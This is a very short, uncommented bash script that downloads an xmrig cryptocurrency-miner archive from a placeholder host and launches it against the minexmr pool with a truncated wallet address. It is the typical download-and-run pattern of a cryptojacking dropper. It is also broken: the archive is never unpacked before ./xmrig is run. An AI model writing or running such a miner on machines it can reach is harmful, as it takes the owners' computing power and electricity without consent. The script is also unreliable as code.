#!/bin/bash
set -eu
wget -q https://files.example/xmrig.tar.gz
./xmrig -o pool.minexmr.com:443 -u 4A
